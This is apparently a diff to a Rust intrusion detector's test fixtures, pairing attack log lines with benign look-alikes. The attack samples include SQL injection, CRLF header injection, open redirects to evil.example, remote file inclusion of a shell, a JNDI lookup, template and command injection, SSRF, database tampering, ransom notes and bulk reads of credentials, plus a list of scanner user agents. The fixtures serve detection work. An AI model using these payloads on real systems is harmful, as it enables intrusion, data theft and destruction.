@@ -38,6 +38,61 @@ pub const CASES: &[(&str, &str, &str)] = &[
         "Nov 24 01:02:03 web sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
     ),
     (
+        "sudo-command",
+        "Nov 24 01:02:03 web sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/useradd -m bob",
+        "Nov 24 01:02:03 web sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id useradd",
+    ),
+    (
+        "ssh-account",
+        "Nov 24 01:02:03 web sshd[77]: Accepted publickey for www-data from 1.2.3.4 port 5 ssh2",
+        "Nov 24 01:02:03 web sshd[77]: Accepted publickey for www from 1.2.3.4 port 5 ssh2",
+    ),
+    (
+        "header-injection-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GPOST / HTTP/1.1" 400 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "POST / HTTP/1.1" 400 5 "-" "x""#,
+    ),
+    (
+        "open-redirect-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /login?next=//evil.example HTTP/1.1" 302 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /login?next=/orders HTTP/1.1" 302 5 "-" "x""#,
+    ),
+    (
+        "remote-file-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?page=http://198.51.100.2/x.txt HTTP/1.1" 404 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?page=about.txt HTTP/1.1" 404 5 "-" "x""#,
+    ),
+    (
+        "object-injection-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?__proto__[a]=1 HTTP/1.1" 404 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?proto[a]=1 HTTP/1.1" 404 5 "-" "x""#,
+    ),
+    (
+        "header-content-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0' AND SLEEP(5)#""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET / HTTP/1.1" 200 5 "https://a.example/?q=it%27s" "Mozilla/5.0 (X11) and more""#,
+    ),
+    (
+        "web-method-odd",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "TRACE / HTTP/1.1" 405 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "PUT /api/orders/7 HTTP/1.1" 200 5 "-" "x""#,
+    ),
+    (
+        "database-injection-error",
+        "2026-11-24 01:02:03 UTC [5] ERROR:  each UNION query must have the same number of columns at character 9",
+        "2026-11-24 01:02:03 UTC [5] ERROR:  syntax error at or near \"form\" at character 9",
+    ),
+    (
+        "database-tampering",
+        "2026-11-24 01:02:03 UTC [5] LOG:  parameter \"log_statement\" changed to \"none\"",
+        "2026-11-24 01:02:03 UTC [5] LOG:  parameter \"log_statement\" changed to \"all\"",
+    ),
+    (
+        "database-keys-read",
+        "2026-11-24 01:02:03 UTC [5] LOG:  statement: SELECT * FROM api_keys",
+        "2026-11-24 01:02:03 UTC [5] LOG:  statement: SELECT * FROM api_keys WHERE id = 7",
+    ),
+    (
         "ssh-root-password",
         "Nov 24 01:02:03 web sshd[77]: Accepted password for root from 1.2.3.4 port 5 ssh2",
         "Nov 24 01:02:03 web sshd[77]: Accepted publickey for root from 1.2.3.4 port 5 ssh2",
@@ -591,6 +646,139 @@ pub const REQUESTS: &[(&str, &[&str], &[&str])] = &[
         ],
         &["/search?q=a%3B%20drop%20in%3B%20update%20later"],
     ),
+    (
+        "header-injection-probe",
+        &[
+            "/x?q=a%0d%0aSet-Cookie:%20a=b",
+            "/x?q=a%0D%0ASet%2DCookie%3A+a",
+            "/x?q=%E5%98%8A%E5%98%8DLocation:x",
+            "/x?q=%0d%0a%0d%0a%3Cscript%3E",
+            "/x HTTP/1.1\\x0D\\x0ATransfer-Encoding: chunked",
+        ],
+        &["/mail?body=Hello%0D%0A%0D%0AI%20write", "/x?text=a%0D%0Ab", "/x?text=set-cookie:%20a"],
+    ),
+    (
+        "open-redirect-probe",
+        &[
+            "/login?next=//evil.example/",
+            "/login?redirect_to=%2F%2Fevil.example",
+            "/login?url=/%5Cevil.example",
+            "/login?return_to=https:evil.example",
+        ],
+        &[
+            "/login?next=/account",
+            "/login?next=%2Faccount%2Fa",
+            "/login?next=https://app.example/a",
+            "/x?expr=//node[1]",
+        ],
+    ),
+    (
+        "remote-file-probe",
+        &[
+            "/index.php?page=http://198.51.100.2/shell.txt?",
+            "/index.php?lang=https%3A%2F%2Fevil%2Eexample%2Fc99%2Etxt",
+            "/x?file=ftp://198.51.100.2/r.php",
+        ],
+        &[
+            "/x?page=https://app.example/account",
+            "/img?url=https://cdn.example/a.txt",
+            "/view?file=https://cdn.example/a.pdf",
+        ],
+    ),
+    (
+        "object-injection-probe",
+        &[
+            "/x?__proto__[admin]=1",
+            "/x?constructor[prototype][a]=1",
+            "/u?name=*)(uid=*))(|(uid=*",
+            "/u?name=%2A%29%28uid%3D%2A",
+            "/u?name=admin)(%26)",
+            "/x?q=%27%3Breturn%20true%3Bvar%20a",
+            "/x?user[$ne]=1",
+            "/x?user%5B%24regex%5D=.*",
+            "/x?f=%7B%22%24gt%22%3A%22%22%7D",
+        ],
+        &["/x?price[$gt]=5", "/x?f=%7B%22gt%22%3A5%7D", "/docs/prototype", "/x?q=(a)(b)", "/x?e=2*(3)"],
+    ),
+    ("request-encoded-twice", &["/x?f=a%00b"], &["/x?f=a%20000b"]),
+    (
+        "sql-injection-probe",
+        &[
+            "/item?id=1%27",
+            "/item?id=1%22%27&x=2",
+            "/item?id=-1%20OR%202%2B2-3-1%3D0%2B0%2B0%2B1",
+            "/login?user=admin%27%2D%2D%20",
+            "/item?id=1/*%2150000UNION*//*%2150000SELECT*/1%2C2",
+            "/item?id=1+and+exists(table_name+from+information_schema.tables)",
+            "/item?id=1;exec+master..xp_cmdshell+%27id%27",
+            "/item?id=1;waitfor%20delay%20%270:0:5%27",
+        ],
+        &[
+            "/search?q=information_schema%20explained",
+            "/search?q=xp_cmdshell+history",
+            "/search?q=waitfor+delay+meaning",
+            "/issues/?jql=text%20~%20%27login%27%20AND%20created%20%3E%3D%20-7d%20OR%20priority%20=%201",
+            "/u?name=O%27Brien",
+            "/search?q=rock+%27n%27+roll",
+            "/s?height=5'11",
+        ],
+    ),
+    (
+        "code-injection-probe",
+        &[
+            "/x?q=%40%287%2A7%29",
+            "/x?q=require%28%27child%5Fprocess%27%29",
+            "/x?q=<!DOCTYPE+a+[<!ENTITY+b",
+            "/?XDEBUG_SESSION_START=phpstorm",
+        ],
+        &["/calc?e=7*7", "/x?q=doctype"],
+    ),
+    ("path-traversal-probe", &["/x?p=..%3B%2F..%3B%2Fmanager"], &["/x?p=a..%3B"]),
+    (
+        "sensitive-file-probe",
+        &["/wallet.dat", "/prisma/schema.prisma"],
+        &["/group/repo/-/blob/main/.gitignore", "/group/repo/-/raw/main/docker-compose.yml"],
+    ),
+    ("webshell", &["/upload/1.php;.jpg"], &["/upload/1.jpg"]),
+    (
+        "sql-injection-probe",
+        &[
+            "/x?id=3%20OR%20%27a%27%3D%27a%27",
+            "/x?id=3+or+'a'='a'",
+            "/x?id=7%27%3Bshutdown--",
+            "/x?id=7%27%3Bdrop%2F%2A%2A%2Fdatabase%2F%2A%2A%2Fshop--",
+            "/x?id=1%20%7C%7C%20dbms%5Fpipe%2Ereceive%5Fmessage%28%28%27a%27%29%2C10%29",
+        ],
+        &["/search?q=cats+or+'dogs'", "/search?q=a;shutdowns"],
+    ),
+    (
+        "code-injection-probe",
+        &[
+            "/x?q=%7B%7B7*'7'%7D%7D",
+            "/x?q=%24%7B%7B%3C%25%5B%25",
+            "/x?q=%7B%7B_self.env.display%7D%7D",
+            "/x?q=%3C%3F%3D%60%24_GET%5B0%5D%60%3F%3E",
+            "/x?q=a%3B%20rm%20-rf%20/tmp/x",
+            "/x?q=%26%20dir%20c%3A%5C",
+        ],
+        &["/search?q=rm+-rf+meaning", "/search?q=a%3Cb", "/x?q={{name}}"],
+    ),
+    (
+        "object-injection-probe",
+        &["/x?a[constructor][prototype][x]=1", "/x?u[$nin][]=a", "/x?u=admin*)((|userPassword=*)"],
+        &["/x?a[b][c]=1"],
+    ),
+    (
+        "open-redirect-probe",
+        &["/login?next=/%09/evil.example", "/login?next=%5C/%5C/evil.example"],
+        &["/login?next=/a%09b"],
+    ),
+    ("lookup-injection-probe", &["/x?a=${j${::-n}di:ldap://x/a}"], &["/x?a=${name}"]),
+    (
+        "internal-address-asked-for",
+        &["/x?url=http%3A%2F%2F0%2F", "/x?url=http://0:80/"],
+        &["/x?url=http://0815.example/"],
+    ),
 ];
 
 /// Rules on PostgreSQL's log: the file's name, messages that it must find, and some that it must not.
@@ -724,6 +912,9 @@ pub const STATEMENTS: &[(&str, &[&str], &[&str])] = &[
         &[
             "statement: INSERT INTO warning VALUES ('Send 0.05 BTC to this address to recover your database')",
             "statement: create database read_me_to_recover",
+            "statement: CREATE TABLE \"README\" (note text)",
+            "statement: CREATE TABLE please_read_me_xmg (a text)",
+            "statement: ALTER DATABASE shop RENAME TO shop_encrypted_pay_btc",
         ],
         &["statement: INSERT INTO orders (pair, note) VALUES ('BTC-EUR', 'your order')"],
     ),
@@ -758,6 +949,85 @@ pub const STATEMENTS: &[(&str, &[&str], &[&str])] = &[
             "statement: ALTER ROLE app SET statement_timeout = '5s'",
         ],
     ),
+    (
+        "database-injection-error",
+        &[
+            "UNION types integer and text cannot be matched",
+            "ORDER BY position 10 is not in select list at character 8",
+            "syntax error at or near \"UNION\" at character 32",
+            "syntax error at or near \"WAITFOR\" at character 32",
+            "function sleep(integer) does not exist at character 51",
+            "function extractvalue(integer, text) does not exist at character 51",
+            "column \"xp_cmdshell\" does not exist at character 9",
+            "invalid input syntax for type bigint: \"1 OR 1=1\"",
+            "invalid input syntax for type integer: \"qvqPostgreSQL 16.4 on x86_64\"",
+            "statement: SELECT * FROM u WHERE m='' UNION SELECT table_name,null FROM information_schema.tables--'",
+            "statement: SELECT * FROM p WHERE id=1 AND 1/(SELECT CASE WHEN (1=1) THEN 0 ELSE 1 END)=1",
+            "statement: SELECT n FROM p WHERE id=1 AND (SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))>0",
+        ],
+        &[
+            "invalid input syntax for type uuid: \"undefined\"",
+            "invalid input syntax for type integer: \"NaN\"",
+            "syntax error at or near \"where\" at character 32",
+            "function nwo() does not exist at character 8",
+            "statement: SELECT a FROM t UNION ALL SELECT table_name FROM information_schema.tables",
+            "statement: INSERT INTO t VALUES ('1 and sleep(5)')",
+            "statement: SELECT CASE WHEN a = 1 THEN 2 END FROM t",
+        ],
+    ),
+    (
+        "database-tampering",
+        &[
+            "statement: SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()",
+            "statement: ALTER DATABASE shop CONNECTION LIMIT 0",
+            "statement: UPDATE pg_database SET datallowconn = false WHERE datname='shop'",
+            "statement: DROP POLICY tenant_isolation ON api_keys",
+            "statement: DROP EXTENSION pgaudit",
+            "duration: 0.212 ms  statement: alter table users no force row level security",
+            "statement: CREATE PUBLICATION allt FOR ALL TABLES",
+            "statement: IMPORT FOREIGN SCHEMA public FROM SERVER ex INTO public",
+            "execute <unnamed>: SELECT pg_create_logical_replication_slot('s','test_decoding')",
+            "statement: SELECT pg_file_write('/tmp/a','x',false)",
+            "statement: SELECT loid, encode(data,'hex') FROM pg_largeobject",
+            "statement: UPDATE users SET password_hash = 'x'",
+            "statement: ALTER ROLE app VALID UNTIL 'infinity'",
+            "statement: ALTER ROLE app NOLOGIN",
+            "statement: DROP ROLE app",
+            "parameter \"archive_command\" changed to \"/bin/true\"",
+            "parameter \"log_connections\" changed to \"off\"",
+            "statement: ALTER SYSTEM SET archive_mode = off",
+        ],
+        &[
+            "statement: SELECT pg_terminate_backend(4711)",
+            "statement: SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'shop_test'",
+            "statement: SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle in transaction'",
+            "statement: DROP POLICY IF EXISTS tenant_isolation ON api_keys",
+            "statement: CREATE PUBLICATION p FOR TABLE orders",
+            "statement: SELECT oid, lomowner FROM pg_largeobject_metadata",
+            "statement: UPDATE users SET password_hash = $1 WHERE id = $2",
+            "statement: INSERT INTO notes VALUES ('drop role app')",
+            "parameter \"log_statement\" changed to \"ddl\"",
+            "parameter \"work_mem\" changed to \"64MB\"",
+            "statement: ALTER SYSTEM SET archive_mode = on",
+        ],
+    ),
+    (
+        "database-keys-read",
+        &[
+            "statement: SELECT id, secret FROM api_keys LIMIT 100000;",
+            "statement: SELECT string_agg(secret_key, ',') FROM api_keys",
+            "execute s1: SELECT email, password_hash FROM users",
+            "statement: SELECT array_to_json(array_agg(u)) FROM users u",
+            "duration: 12.5 ms  statement: SELECT database_to_xml(true,true,'')",
+        ],
+        &[
+            "execute <unnamed>: SELECT secret_hash FROM api_keys WHERE key_id = $1",
+            "statement: SELECT secret FROM api_keys LIMIT 1",
+            "statement: SELECT email FROM users",
+            "statement: SELECT array_agg(id) FROM orders",
+            "statement: INSERT INTO notes VALUES ('select * from api_keys')",
+        ],
+    ),
 ];
 
 /// User agents of tools that look for weaknesses, and others.
@@ -771,6 +1041,9 @@ pub const AGENTS: (&[&str], &[&str]) = (
         "dirsearch",
         "Hello, World",
         "xray/1.9",
+        "skipfish/2.10b",
+        "Mozlila/5.0",
+        "libredtail-http",
     ],
     &["Mozilla/5.0 (Hydrate; Zapier)", "Hydrawise/2.0", "curl/8.5.0", "kube-probe/1.29", "Googlebot/2.1"],
 );
@@ -815,6 +1088,11 @@ pub fn correlated() -> Vec<(&'static str, String, String)> {
         };
         many(count, &line)
     };
+    let web = |n: u32, request: &str, status: u16| {
+        format!("1.2.3.4 - - [24/Nov/2026:01:02:{n:02} +0000] \"{request} HTTP/1.1\" {status} 5 \"-\" \"x\"\n")
+    };
+    let web_refused = |count: u32| many(count, &|n| web(n, "POST /api/login", 401));
+    let web_keys = |count: u32| many(count, &|n| web(n, &format!("GET /api/keys/{n}"), 200));
     let guessed = |count: u32| {
         let line = |n: u32| {
             format!("2026-11-24 01:02:{n:02} UTC [5] FATAL:  password authentication failed for user \"app\"\n")
@@ -831,6 +1109,8 @@ pub fn correlated() -> Vec<(&'static str, String, String)> {
             sshd(0, "Failed password for root from 1.2.3.5") + &sshd(50, "Accepted password for root from 1.2.3.5"),
         ),
         ("ssh-scan", foreign(3), foreign(2)),
+        ("web-login-guessing", web_refused(10), web_refused(9)),
+        ("web-enumeration", web_keys(15), web_keys(14)),
         ("secrets-swept", secret(10), secret(9)),
         ("mass-export", export(20), export(19)),
         ("database-password-guessing", guessed(10), guessed(9)),
